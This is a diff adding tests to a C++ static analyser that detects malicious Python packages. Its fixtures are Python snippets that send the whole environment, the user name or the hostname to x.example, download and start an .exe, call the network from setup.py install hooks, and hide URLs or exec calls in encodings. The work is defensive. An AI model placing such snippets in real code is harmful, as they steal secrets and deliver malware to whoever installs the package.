@@ -225,7 +225,9 @@ TEST(Behaviour, SecretOnlyInAFunctionNobodyCallsWeighsLess) {
       "    requests.post('https://x.example/', json=dict(os.environ))\n");
   const Finding* f = Find(fs, "exfiltration");
   ASSERT_NE(f, nullptr) << Rules(fs);
-  EXPECT_LT(f->severity, Severity::kHigh);
+  // The whole environment over the network: one step less (see
+  // WholeEnvironmentSentFromAMethod); other secrets two.
+  EXPECT_LT(f->severity, Severity::kCritical);
   EXPECT_EQ(f->phase, Phase::kRuntime);
 }
 
@@ -305,9 +307,130 @@ TEST(Behaviour, HelpersThatSendOrDecode) {
       "exec-dynamic", Severity::kHigh);
 }
 
+TEST(Behaviour, DecodedCodeRunAnywhereKeepsItsWeight) {
+  ExpectFinding("import base64\ndef f(x):\n    return x\nexec(base64.b64decode(f('a')))\n", "exec-dynamic",
+                Severity::kHigh, Phase::kRuntime);
+  ExpectFinding("import base64\ndef f(x):\n    return x\ndef g():\n    exec(base64.b64decode(f('a')))\n",
+                "exec-dynamic", Severity::kHigh, Phase::kRuntime);
+  // Code merely built at run time, in a function of a runtime module: not reported.
+  auto fs = Analyze("def g(name):\n    exec('import ' + name)\n", Phase::kRuntime);
+  EXPECT_EQ(Find(fs, "exec-dynamic"), nullptr) << Rules(fs);
+}
+
+TEST(Behaviour, ExecOfTextDecodedInALoop) {
+  ExpectFinding("run = exec\nd = '\\x01\\x02'\nk = '123'\ns = ''\nfor i in range(len(d)):\n"
+                "    s += chr(ord(d[i]) ^ ord(k[i % 3]))\nrun(s)\n",
+                "exec-dynamic", Severity::kHigh);
+}
+
 TEST(Behaviour, ExecOfComputedCode) {
   ExpectFinding("import base64\ndef f(x):\n    return x\nexec(base64.b64decode(f('a')))\n",
                 "exec-dynamic");
+}
+
+TEST(Behaviour, HostFactsSentByTopLevelCodeOfAnyModule) {
+  ExpectFinding("import requests, getpass\nrequests.post('https://x.example', data=getpass.getuser())\n",
+                "exfiltration", Severity::kHigh, Phase::kRuntime);
+  // A setting read from the environment is not a host fact: one step less.
+  auto fs = Analyze("import os, requests\nrequests.post(os.environ['URL'], data='x')\n", Phase::kRuntime);
+  ASSERT_NE(Find(fs, "exfiltration"), nullptr) << Rules(fs);
+  EXPECT_EQ(Find(fs, "exfiltration")->severity, Severity::kMedium);
+}
+
+TEST(Behaviour, FilesWrittenThenStarted) {
+  ExpectFinding("import os\nopen(os.environ['APPDATA'] + '\\\\x.pyw', 'w').write(CODE)\n"
+                "os.startfile(os.environ['APPDATA'] + '\\\\x.pyw')\n",
+                "drop-executable", Severity::kHigh);
+  ExpectFinding("import os, tempfile, sys\nt = tempfile.NamedTemporaryFile(delete=False)\n"
+                "t.write(CODE)\nos.system(f'start {sys.executable} {t.name}')\n",
+                "drop-executable", Severity::kHigh);
+  // A file written and a process started that has nothing to do with it.
+  ExpectNoFinding("import os\nopen('log.txt', 'w').write('x')\nos.system('ls')\n", "drop-executable");
+}
+
+TEST(Behaviour, DownloadingCommandsAndPythonLaunchedAtImport) {
+  ExpectFinding("import subprocess\nsubprocess.Popen('curl http://x.example/a.exe -o a.exe', shell=True)\n"
+                "subprocess.Popen(['C:/a.exe'])\n",
+                "download-exec", Severity::kHigh);
+  ExpectFinding("import os\nos.system('curl.exe -OLJ https://x.example/m.exe')\nos.system('m.exe -w 1')\n",
+                "download-exec", Severity::kHigh, Phase::kRuntime);
+  ExpectFinding("import os, requests\ndef f():\n    r = requests.get('https://x.example/s.exe')\n"
+                "    open(f'C://K//s.exe', 'wb').write(r.content)\n"
+                "    os.system('start cmd.exe /c start C://K//s.exe')\n",
+                "download-exec", Severity::kHigh, Phase::kRuntime);
+  ExpectFinding("import os\nos.popen(f\"curl -s http://x.example/{os.getcwd()}\")\n", "network-at-import");
+  ExpectFinding("import subprocess\nsubprocess.Popen(['python3', '-c', 'import other'])\n",
+                "process-at-import", Severity::kHigh);
+  ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, 'x.py'])\n",
+                "process-at-import", Severity::kHigh);
+  auto fs = Analyze("import subprocess\nsubprocess.call(['git', 'describe'])\n");
+  ASSERT_NE(Find(fs, "process-at-import"), nullptr) << Rules(fs);
+  EXPECT_EQ(Find(fs, "process-at-import")->severity, Severity::kMedium);
+}
+
+TEST(Behaviour, WholeEnvironmentSentFromAMethod) {
+  ExpectFinding("import os, requests\nclass C:\n    def send(self):\n        s = ''\n"
+                "        for k, v in os.environ.items():\n            s += v\n"
+                "        requests.get('https://x.example/' + s)\n",
+                "exfiltration", Severity::kHigh, Phase::kRuntime);
+  // One secret variable given to its own service from a function: two steps less.
+  auto fs = Analyze("import os, requests\ndef q():\n    requests.get('https://api.example', "
+                    "params={'key': os.environ['API_KEY']})\n", Phase::kRuntime);
+  ASSERT_NE(Find(fs, "exfiltration"), nullptr) << Rules(fs);
+  EXPECT_EQ(Find(fs, "exfiltration")->severity, Severity::kMedium);
+}
+
+TEST(Behaviour, HostFactsThroughFunctionReferencesAndTlsSockets) {
+  ExpectFinding("import os, json, urllib.request\ndef t(f):\n    return f()\n"
+                "d = json.dumps({'c': t(os.getcwd)})\nurllib.request.urlopen('https://x.example/?' + d)\n",
+                "exfiltration", Severity::kCritical);
+  ExpectFinding("import ssl, socket\nctx = ssl.SSLContext(ssl.PROTOCOL_TLSv1_2)\n"
+                "s = ctx.wrap_socket(socket.socket(), server_hostname='x.example')\n"
+                "s.send(socket.gethostname().encode())\n",
+                "exfiltration", Severity::kCritical);
+}
+
+TEST(Behaviour, NetworkAddressHiddenInAnEncodedLiteral) {
+  ExpectFinding("import base64, requests\nrequests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==')"
+                ".decode(), json={})\n", "hidden-destination", Severity::kHigh, Phase::kRuntime);
+  ExpectNoFinding("import requests\nrequests.post('https://x.example/a', json={})\n", "hidden-destination");
+}
+
+TEST(Behaviour, NetworkAtInstall) {
+  ExpectFinding("from setuptools import setup\nimport requests\nsetup(name='x')\n"
+                "requests.get('http://x.example/?d=1')\n",
+                "network-at-install", Severity::kHigh, Phase::kInstall, /*install=*/true);
+  ExpectFinding("from setuptools import setup\nfrom setuptools.command.install import install\n"
+                "import urllib.request\nclass I(install):\n    def run(self):\n"
+                "        urllib.request.urlopen('http://x.example/')\nsetup(cmdclass={'install': I})\n",
+                "network-at-install", Severity::kHigh, Phase::kInstall, /*install=*/true);
+  // A bootstrapper's download helper is left out.
+  auto fs = Analyze("import urllib.request\ndef download():\n    urllib.request.urlopen('https://pypi.example/')\n"
+                    "download()\n", Phase::kInstall, true);
+  EXPECT_EQ(Find(fs, "network-at-install"), nullptr) << Rules(fs);
+}
+
+TEST(Behaviour, InstallTimeWritesIntoUserFolders) {
+  ExpectFinding("from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n"
+                "class I(install):\n    def run(self):\n"
+                "        os.mkdir(f'C:\\\\Users\\\\{os.getlogin()}\\\\Desktop\\\\x')\n"
+                "setup(cmdclass={'install': I})\n",
+                "install-writes-user-files", Severity::kHigh, Phase::kInstall, /*install=*/true);
+  auto fs = Analyze("import os\nos.makedirs('build/lib')\nopen('build/x.txt', 'w').write('x')\n",
+                    Phase::kInstall, true);
+  EXPECT_EQ(Find(fs, "install-writes-user-files"), nullptr) << Rules(fs);
+}
+
+TEST(Behaviour, CodeSpeltInEscapes) {
+  ExpectFinding("e = eval(\"\\145\\166\\141\\x6c\")\n", "exec-decoded", Severity::kCritical);
+  ExpectFinding("def f():\n    exec('\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29')\n",
+                "exec-decoded", Severity::kHigh);
+  ExpectNoFinding("print('\\x1b[31m red \\x1b[0m')\neval('1 + 2')\n", "exec-decoded");
+  ExpectFinding("eval(''.join(chr(i) for i in [101, 120, 101, 99]))('\\x70\\x72\\x69\\x6e\\x74')\n",
+                "exec-decoded", Severity::kCritical);
+  ExpectFinding("import builtins\ngetattr(builtins, 'ex' + 'ec')('\\x70\\x72\\x69\\x6e\\x74')\n",
+                "exec-decoded", Severity::kCritical);
+  ExpectNoFinding("exec('x = \"\\\\x41\" # a long line of code with one escape')\n", "exec-decoded");
 }
 
 TEST(Behaviour, QuietForOrdinaryCode) {
@@ -346,7 +469,8 @@ TEST(Concealment, EntropyAndPyArmor) {
     blob += "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[(x >> 16) % 64];
   }
   ExpectFinding("D = '" + blob + "'\n", "high-entropy-blob");
-  ExpectFinding("from pytransform import pyarmor_runtime\npyarmor_runtime()\n", "pyarmor-stub");
+  ExpectFinding("from pytransform import pyarmor_runtime\npyarmor_runtime()\n", "pyarmor-stub",
+                Severity::kHigh);
 }
 
 }  // namespace
